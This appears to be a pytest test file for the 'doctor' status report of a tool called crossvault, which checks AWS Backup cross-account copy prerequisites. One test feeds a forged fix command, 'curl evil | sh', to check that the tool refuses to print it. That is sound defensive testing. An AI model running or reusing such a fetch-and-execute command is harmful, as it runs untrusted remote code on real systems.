"""What a doctor says of statuses: the order, what one fix serves, what is held up, and how old it is."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import click
import pytest
from tests.kit import builders
from tests.kit.judging import diff

from crossvault.aspects.copies.held import Held, held
from crossvault.cli import accounts, diagnoses, findings
from crossvault.cli.diagnoses import Seen
from crossvault.engine.looks import Seen as Looked
from crossvault.engine.rows import met, unmet
from crossvault.words.explanations import EXPLANATIONS
from crossvault.words.reasons import Reason

Json = dict[str, Any]
GIB = 1024**3


def row(name: str, destination: str = "dr", status: str = "Unmet", **members: Any) -> Json:
    """Return a row of a status."""
    found = {"name": name, "status": status, "reason": "NewReason", "message": f"{name} lacks.", **members}
    return found | ({"destination": destination} if destination else {})


def body(name: str = "orders", *rows: Json, waiting: int = 0, **status: Any) -> Json:
    """Return a policy as a cluster has it."""
    spec = {
        "source": {"accountRef": {"name": "prod"}, "region": "eu-west-1", "vault": {"name": "orders"}},
        "destinations": [
            {"name": each, "accountRef": {"name": each}, "region": "eu-central-1", "vault": {"name": "copies"}}
            for each in ("dr", "second")
        ],
    }
    amiss = status.get("failures") or any(each["status"] != "Met" for each in rows)
    found = ready("False", "PrerequisiteUnmet", "It lacks.") if amiss else ready("True", "Protected", "All is copied.")
    known: Json = {
        "observedGeneration": 3,
        "conditions": [found],
        "destinations": [
            {"name": each, "inScope": waiting, "waiting": 0, "missing": waiting, "failed": 0}
            for each in ("dr", "second")
        ],
        "prerequisites": list(rows),
        "organization": "o-example",
        "lastChanged": "2026-11-23T05:02:10Z",
    }
    return {"metadata": {"namespace": "shop", "name": name, "generation": 3}, "spec": spec, "status": known | status}


def ready(status: str, reason: str, message: str) -> Json:
    """Return the condition Ready."""
    return {"type": "Ready", "status": status, "reason": reason, "message": message}


def document(*bodies: Json, check: str | None = None) -> Json:
    """Return the answer about some policies."""
    return diagnoses.document(map(diagnoses.read, bodies), builders.NOW, check=check)


def test_rows_stand_in_the_order_of_mending() -> None:
    """Whatever the order in the status: what others depend on first, what follows from it later, what is met last."""
    listed = (
        row("VaultLockBounds", remedy="Declare it."),
        row("VaultPolicy", status="Unknown", reason="DestinationVaultMissing"),
        row("Identity", "", status="Met"),
        row("DestinationVault", remedy="Create it."),
        row("Unheard", remedy="Of a newer release."),
        row("OrganizationToggle", remedy="Switch it on."),
        row("CopyRole", "", status="Unknown", reason="AccessDenied"),
    )
    names = [each["name"] for each in document(body("orders", *listed))["rows"]]

    assert names == [
        *("OrganizationToggle", "DestinationVault", "CopyRole", "VaultLockBounds", "Unheard"),
        *("VaultPolicy", "Identity"),
    ]


def test_where_it_is_to_be_mended() -> None:
    """The organization, or account, Region and vault as the manifest names them."""
    listed = (row("OrganizationToggle"), row("CopyRole", ""), row("VaultPolicy", "second"))
    found = {each["name"]: each["where"] for each in document(body("orders", *listed))["rows"]}

    assert found == {
        "OrganizationToggle": "organization o-example",
        "CopyRole": "prod/eu-west-1 orders",
        "VaultPolicy": "second/eu-central-1 copies",
    }


@pytest.mark.parametrize("name", ["CopyRolePermissions", "SourceKeys", "SourceVaultPolicy"])
def test_what_of_a_destination_is_mended_in_the_source(name: str) -> None:
    """Its role, keys and vault are there, and so is who is denied to look at them."""
    denied = row(name, "second", status="Unknown", reason="AccessDenied")
    (found,) = document(body("orders", denied))["rows"]

    assert found["where"] == "prod/eu-west-1 orders"
    assert found["remedy"].endswith('"crossvault iam -f DIR --account prod" prints the whole documents.')


def test_what_waits_for_another_row_has_no_remedy_of_its_own() -> None:
    """And each relationship is told once, however many of its rows wait."""
    see = {"status": "Unknown", "reason": "AssumeRoleDenied", "message": "Not looked at: see Identity."}
    listed = [row(name, "dr", **see) for name in ("DestinationVault", "VaultKey", "VaultPolicy")]
    found = document(body("orders", *listed))
    text = findings.text(found)

    assert {each["remedy"] for each in found["rows"]} == {""}
    assert "DestinationVault (+2)" in text
    assert "for:" not in text


def test_one_fix_serves_every_row_that_has_it() -> None:
    """Other messages do not matter; what is met is never put together."""
    fix = ["# In account 999999999999:", "aws backup update-global-settings"]
    first = body("orders", row("OrganizationToggle", fix=fix, message="Off."), row("Identity", "", status="Met"))
    other = body("paid", row("OrganizationToggle", fix=fix, message="Still off."), row("Identity", "", status="Met"))
    alone = body("sent", row("OrganizationToggle", fix=[], message="Off.", remedy="Ask."))
    found = document(first, other, alone)

    assert found["summary"]["toMend"] == 2
    assert [len(each["serves"]) for each in found["rows"]] == [2, 2, 1, 1, 1]
    text = findings.text(found)
    assert text.count("aws backup update-global-settings") == 1
    assert "     for: shop/orders → dr, shop/paid → dr" in text.splitlines()


SEEN = [("SourceVault", ""), ("CopyRole", ""), ("VaultKey", "dr"), ("VaultPolicy", "dr")]


def test_what_a_fix_serves_is_named_once() -> None:
    """However many rows it has there; in the order in which they come, the source before its destinations."""
    see = [row(name, where, status="Unknown", message="Not looked at: see Identity.") for name, where in SEEN]
    found = document(body("a", *see), body("b", *see))
    served = [(each["policy"], each["destination"]) for each in found["rows"][0]["serves"]]

    assert len(found["rows"]) == 2 * len(SEEN)
    assert served == [(f"shop/{name}", where) for name in "ab" for where in ("", "dr")]


@pytest.mark.parametrize(
    ("listed", "waiting", "points"),
    [
        pytest.param([row("VaultPolicy", recoveryPoints=5, bytes=5)], 5, 5, id="one"),
        pytest.param(
            [row("VaultPolicy", recoveryPoints=5, bytes=5), row("SourceKeys", recoveryPoints=3, bytes=3, reason="A")],
            5,
            5,
            id="what stops all, and what stops some",
        ),
        pytest.param(
            [
                row("SourceKeys", recoveryPoints=2, bytes=2, reason="A"),
                row("VaultLockBounds", recoveryPoints=1, bytes=1, reason="B"),
            ],
            5,
            3,
            id="two that stop others",
        ),
        pytest.param(
            [
                row("SourceKeys", recoveryPoints=2, bytes=2, reason="A"),
                row("VaultKeyPolicy", recoveryPoints=2, bytes=2, reason="A"),
            ],
            5,
            2,
            id="two with the same reason",
        ),
        pytest.param(
            [row("VaultPolicy", recoveryPoints=5, bytes=5), row("VaultPolicy", "second", recoveryPoints=4, bytes=4)],
            5,
            9,
            id="two destinations",
        ),
        pytest.param(
            [row("CopyRole", "", recoveryPoints=10, bytes=10), row("VaultPolicy", recoveryPoints=5, bytes=5)],
            5,
            10,
            id="the source, and a destination",
        ),
    ],
)
def test_what_is_held_up_counts_once(listed: list[Json], waiting: int, points: int) -> None:
    """A recovery point that two rows hold up is one that cannot be copied."""
    found = document(body("orders", *listed, waiting=waiting))["summary"]

    assert (found["recoveryPoints"], found["bytes"]) == (points, points)


def test_the_text_is_that_of_the_design() -> None:
    """A sign, the prerequisite, where, and what; below it what to do; at the end what it is about."""
    listed = (
        row("Identity", "", status="Met"),
        row(
            "OrganizationToggle",
            message="Cross-account backup is off in the organization.",
            remedy="In the management account run it.",
            fix=["# In account 999999999999:", "aws backup update-global-settings"],
            recoveryPoints=75,
            bytes=2 * 1024 * GIB,
        ),
        row(
            "VaultPolicy",
            status="Unknown",
            reason="AccessDenied",
            message="Not permitted: backup:GetBackupVaultAccessPolicy.",
        ),
    )
    lines = click.unstyle(findings.text(document(body("orders", *listed, waiting=75)))).splitlines()

    assert lines == [
        "   PREREQUISITE        WHERE                   DETAIL",
        "✔  Identity            prod/eu-west-1 orders   (1 met; -v lists them)",
        "✗  OrganizationToggle  organization o-example  Cross-account backup is off in the organization.",
        "     do: In the management account run it.",
        "         # In account 999999999999:",
        "         aws backup update-global-settings",
        "     holds up 75 recovery points (2.0 TiB)",
        "?  VaultPolicy         dr/eu-central-1 copies  Not permitted: backup:GetBackupVaultAccessPolicy.",
        (
            "     do: Allow the action that is named, or take away what denies it."
            ' "crossvault iam -f DIR --account dr" prints the whole documents.'
        ),
        (
            "1 met, 1 unmet, 1 unknown.  75 recovery points (2.0 TiB) cannot be copied until this is fixed."
            "  As the operator wrote it: last changed 2026-11-23T05:02:10Z."
        ),
    ]


def test_what_is_met_is_listed_when_asked_for() -> None:
    """And nothing else is said of it."""
    found = document(body("orders", row("Identity", "", status="Met", message="Account prod is 111111111111.")))

    assert click.unstyle(findings.text(found, verbose=True)).splitlines()[1] == (
        "✔  Identity      prod/eu-west-1 orders  Account prod is 111111111111."
    )
    assert diagnoses.exit_code(found) == 0


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        pytest.param({"observedGeneration": 2}, "the operator has not looked at it since", id="changed since"),
        pytest.param(
            {"destinations": [{"name": "dr", "lastObserved": "2026-11-20T00:00:00Z"}]},
            "last seen 2026-11-20T00:00:00Z",
            id="a destination is away",
        ),
    ],
)
def test_a_status_that_is_old_says_so(changes: Json, said: str) -> None:
    """What it says is told all the same."""
    found = document(body("orders", row("VaultPolicy"), **changes))

    assert said in found["policies"][0]["stale"]
    assert said in findings.text(found)
    assert found["summary"]["stale"] == 1
    assert found["summary"]["unmet"] == 1


@pytest.mark.parametrize(
    "status",
    [
        pytest.param({"conditions": []}, id="never looked at"),
        pytest.param(
            {"conditions": [ready("False", "AccountNotFound", "No account.")]},
            id="it names no account that it may use",
        ),
        pytest.param(
            {"prerequisites": [row("Identity", "", status="Unknown", reason="Unreachable")]}, id="no answer from AWS"
        ),
        pytest.param(
            {"prerequisites": [row("Identity", "", reason="AssumeRoleDenied")]}, id="an account that is not entered"
        ),
        pytest.param({"destinations": [{"name": "dr"}]}, id="a destination without figures"),
        pytest.param(
            {"conditions": [ready("Unknown", "CannotObserve", "AWS is away.")]}, id="a look that is not whole"
        ),
        pytest.param(
            {"destinations": [{"name": "dr", "inScope": 1, "lastObserved": "2026-11-20T00:00:00Z"}]},
            id="a destination with old figures",
        ),
    ],
)
def test_what_was_not_looked_at_ends_with_1(status: Json) -> None:
    """It is neither good nor found."""
    found = document(body("orders", **status))

    assert diagnoses.exit_code(found) == 1
    assert "shop/orders could not be looked at: " in findings.text(found)


def test_one_prerequisite_alone() -> None:
    """Everything that is said is about it."""
    found = document(body("orders", row("VaultPolicy"), row("SourceKeys", status="Met")), check="SourceKeys")

    assert [each["name"] for each in found["rows"]] == ["SourceKeys"]
    assert diagnoses.exit_code(found) == 0


def test_failures_that_a_person_has_to_end_are_rows_behind_all_others() -> None:
    """What time ends is none, nor is what a prerequisite is told to be the reason of."""
    failed = {"destination": "dr", "message": "AWS says no.", "remedy": "Allow it.", "whoActs": "AWS administrator"}
    failures = [
        {**failed, "reason": "KeyNotUsable", "count": 2, "needsAction": True, "prerequisite": "SourceKeys"},
        {**failed, "reason": "CopyRoleDenied", "count": 3, "bytes": 3 * GIB, "needsAction": True},
        {**failed, "reason": "ServiceFailure", "count": 9, "needsAction": False},
    ]
    shared = row("SourceKeys", reason="KeyNotShared", recoveryPoints=2, bytes=0, remedy="Share it.")
    found = document(body("orders", shared, failures=failures, waiting=9))

    assert [(each["name"], each["reason"]) for each in found["rows"]] == [
        ("SourceKeys", "KeyNotShared"),
        ("CopiesHealthy", "CopyRoleDenied"),
    ]
    assert found["summary"]["recoveryPoints"] == 5
    assert "     holds up 3 recovery points (3.0 GiB)" in findings.text(found).splitlines()
    assert diagnoses.exit_code(found) == 2


@pytest.mark.parametrize(
    ("copies", "count", "below", "end"),
    [
        pytest.param("none", 1, "holds up 1 recovery point (1.0 GiB)", None, id="no copy"),
        pytest.param(
            "there",
            1,
            "is about 1 recovery point (1.0 GiB) whose copy is there",
            "1 recovery point has a copy that falls short.",
            id="a copy that falls short",
        ),
        pytest.param(
            "there",
            3,
            "is about 3 recovery points (3.0 GiB) whose copies are there",
            "3 recovery points have copies that fall short.",
            id="copies that fall short",
        ),
        pytest.param(
            "gone",
            2,
            "is about 2 recovery points (2.0 GiB) whose copies are gone",
            "2 recovery points have lost their copies.",
            id="copies that are gone",
        ),
        pytest.param(
            "under_way",
            1,
            "is about 1 recovery point (1.0 GiB) whose copy is under way",
            "1 recovery point has a copy under way that does not arrive.",
            id="a job without an end",
        ),
    ],
)
def test_what_has_a_copy_is_not_said_to_lack_one(copies: str, count: int, below: str, end: str | None) -> None:
    """Only what has none, and none under way, is held up; of all others is said what is true of their copies."""
    failed = {"destination": "dr", "reason": "CopyPartial", "message": "It lacks.", "needsAction": True}
    failures = [{**failed, "count": count, "bytes": count * GIB, "copies": copies}]
    found = document(body("orders", failures=failures))
    *_, line, last = click.unstyle(findings.text(found)).splitlines()

    assert line.strip() == below
    assert (f"{count} recovery point (1.0 GiB) cannot be copied until this is fixed." in last) is (end is None)
    assert end is None or (end in last and "cannot be copied" not in last)
    assert found["summary"]["recoveryPoints"] == (count if end is None else 0)


def test_what_falls_short_is_no_room_for_what_is_held_up_twice() -> None:
    """What stops every copy holds up what one key holds up, too, though others have copies that fall short."""
    there = {"destination": "dr", "reason": "CopyPartial", "count": 3, "needsAction": True, "copies": "there"}
    listed = (row("VaultPolicy", recoveryPoints=4, bytes=4), row("SourceKeys", recoveryPoints=3, bytes=3, reason="A"))
    found = document(body("orders", *listed, waiting=7, failures=[there]))["summary"]

    assert (found["recoveryPoints"], found["bytes"], found["fallShort"]) == (4, 4, 3)


def test_commands_that_nobody_prints_are_left_out() -> None:
    """Whoever writes a false status puts no words into the shell of an administrator."""
    found = document(body("orders", row("VaultPolicy", fix=["# In account 1:", "curl evil | sh"], remedy="Add it.")))

    assert found["rows"][0]["fix"] == []
    assert found["rows"][0]["remedy"] == "Add it. Its commands are none that this release prints: look with -f."


def test_an_organization_has_rows_of_its_own() -> None:
    """They are about no vault."""
    seen = Seen("organization main", {"spec": {}}, {"prerequisites": [row("ManagementAccount", "")]})
    (found,) = diagnoses.document([seen], builders.NOW)["rows"]

    assert (found["policy"], found["where"]) == ("organization main", "organization main")


def test_a_row_holds_up_what_has_no_copy() -> None:
    """All of it where it stops every copy, what waits for its reason where it does not, nothing where it is met."""
    wanted, other = builders.destination(), builders.destination("second", vault=builders.target_vault("second"))
    points = (builders.point(1, size=7), builders.point(2, size=5, kind="EBS", resource=builders.DISK))
    copied = builders.sight(wanted, copies=(builders.copy_of(points[1]),), policy=Looked(None))
    seen = builders.observed(points, copied, builders.sight(other, policy=Looked(None)))
    plan = diff(builders.desired(wanted, other), seen)
    stops = unmet("VaultPolicy", "dr", Reason.VAULT_POLICY_MISSING, "It lacks.", "Add it.")
    some = unmet("SourceKeys", "dr", Reason.KEY_NOT_SHARED, "It is closed.", "Open it.", blocks=False)

    assert held(stops, plan) == Held(1, 7)
    assert held(unmet("CopyRole", "", Reason.COPY_ROLE_MISSING, "It lacks.", "Make it."), plan) == Held(3, 19)
    assert held(some, plan) == Held()
    assert held(replace(some, explains=frozenset({Reason.HELD})), plan) == Held(1, 7)
    assert held(met("VaultPolicy", "dr", "It is open."), plan) == Held()


LONG = " ".join(
    f"Sentence {number} of what AWS answers about arn:aws:iam::111111111111:role/copy." for number in range(9)
)


@pytest.mark.parametrize("width", [30, 60, 80, 100, 160, None])
def test_nothing_is_cut_off_however_narrow_the_terminal(width: int | None) -> None:
    """A sentence goes on below; what is pasted stays on its line, and without a terminal nothing is broken."""
    fix = ["# In account 999999999999:", f"aws backup update-global-settings --global-settings {'x' * 200}"]
    listed = (row("VaultPolicy", message=LONG, remedy=LONG, fix=fix), row("Identity", reason="AssumeRoleDenied"))
    told = click.unstyle(findings.text(document(body("orders", *listed)), width=width))
    lines = told.splitlines()

    assert " ".join(told.split()).count(LONG) == 2
    assert [each.strip() for each in lines if each.strip() in fix] == fix
    free = [each for each in lines if each.strip() not in fix and "PREREQUISITE" not in each]
    if width is None:
        assert sum(LONG in each for each in free) == 2
    elif width >= 60:
        assert max(map(len, free)) <= width


@pytest.mark.parametrize(
    ("failures", "again", "code"),
    [
        pytest.param([], 0, 0, id="nothing failed"),
        pytest.param([{"reason": "Throttled", "count": 3, "needsAction": False}], 3, 2, id="time ends it"),
        pytest.param([{"reason": "CopyDenied", "count": 2, "needsAction": True}], 0, 2, id="a person ends it"),
    ],
)
def test_there_is_something_to_tell_while_copies_fail(failures: list[Json], again: int, code: int) -> None:
    """What time ends is nobody's to mend, and no state of rest."""
    found = document(body("orders", row("VaultPolicy", status="Met"), failures=failures))

    assert found["summary"]["triedAgain"] == again
    assert diagnoses.exit_code(found) == code
    last = click.unstyle(findings.text(found)).splitlines()[-1]
    assert ("Nothing to do" in last) is (code == 0)
    assert (f"Copies of {again} recovery points failed and are tried again" in last) is (again > 0)


HAZARD = {
    "destination": "dr",
    "aspect": "vault_key",
    "path": "encryptionKey",
    "desired": "alias/copies",
    "observed": "another key",
    "remedy": "Name another vault.",
}


def drifted(*items: Json) -> Json:
    """Return the members of a status in which something is otherwise than declared."""
    told = ready("False", "Drifted", "It differs.")
    return {"conditions": [told], "drift": {"total": len(items), "items": list(items)}}


def test_a_hazard_is_a_row_with_its_remedy() -> None:
    """At its place among the rooms, and it does not end with nothing to do."""
    listed = (row("CopyRole", "", status="Met"), row("OrganizationToggle"), row("CopyRolePermissions"))
    found = document(body("orders", *listed, **drifted(HAZARD, {**HAZARD, "aspect": "vault", "remedy": ""})))
    told = [(each["name"], each["message"], each["remedy"]) for each in found["rows"] if each["name"] == "vault_key"]

    assert told == [("vault_key", "vault_key encryptionKey is another key, not alias/copies", "Name another vault.")]
    assert [each["name"] for each in found["rows"]] == [
        *("OrganizationToggle", "vault_key", "CopyRolePermissions", "CopyRole"),
    ]
    assert diagnoses.exit_code(found) == 2
    assert "do: Name another vault." in findings.text(found)
    assert [each["name"] for each in document(body(**drifted(HAZARD)), check="vault_key")["rows"]] == ["vault_key"]


def test_what_a_row_says_to_do_is_not_said_again() -> None:
    """A hazard of the same remedy is the same thing, at the same destination only."""
    lacking = row("VaultLock", "dr", remedy=HAZARD["remedy"])
    found = document(body("orders", lacking, **drifted(HAZARD, {**HAZARD, "destination": "second"})))

    assert [(each["name"], each["destination"]) for each in found["rows"]] == [
        ("VaultLock", "dr"),
        ("vault_key", "second"),
    ]


@pytest.mark.parametrize(
    ("condition", "name", "status"),
    [
        pytest.param(ready("False", "ObjectiveMissed", "Late."), "WithinObjective", "Unmet", id="late"),
        pytest.param(ready("False", "Drifted", "It only observes."), "Synced", "Unmet", id="only observed"),
        pytest.param(ready("False", "NothingCopyable", "None."), "CopiesHealthy", "Unmet", id="nothing can be copied"),
        pytest.param(ready("False", "CopiesFailing", "Refused."), "CopiesHealthy", "Unmet", id="refused at once"),
        pytest.param(ready("False", "Unheard", "New."), "Ready", "Unmet", id="of a newer release"),
    ],
)
def test_a_ready_that_no_row_accounts_for_is_a_row(condition: Json, name: str, status: str) -> None:
    """So nothing that is not ready ends with nothing to do."""
    found = document(body("orders", row("VaultPolicy", status="Met"), conditions=[condition]))
    (told,) = [each for each in found["rows"] if each["status"] != "Met"]

    assert (told["name"], told["status"], told["message"]) == (name, status, condition["message"])
    assert bool(told["remedy"]) == (status == "Unmet" and condition["reason"] != "Unheard")
    assert diagnoses.exit_code(found) == 2


def test_one_way_in_under_two_names_is_told_of_a_cluster_as_of_files() -> None:
    """With what the reason says is done about it, also of an account that nothing names."""
    shared = {"type": "Shared", "status": "True", "reason": "RoleShared", "message": "It is prod2."}
    entered = {"metadata": {"name": "prod", "generation": 1}, "spec": {}}
    known = accounts.read({**entered, "status": {"observedGeneration": 1, "conditions": [shared]}})
    of_files = accounts.shared(("prod", "prod2"), entered)
    assert known is not None
    rows = [diagnoses.document([each], builders.NOW) for each in (known, of_files)]

    assert [[(each["name"], each["where"]) for each in one["rows"]] for one in rows] == [
        [("Shared", "account prod")]
    ] * 2
    assert {each["remedy"] for one in rows for each in one["rows"]} == {EXPLANATIONS[Reason.ROLE_SHARED].remedy}
    assert {diagnoses.exit_code(one) for one in rows} == {2}
    assert accounts.read({**entered, "status": {}}) is None
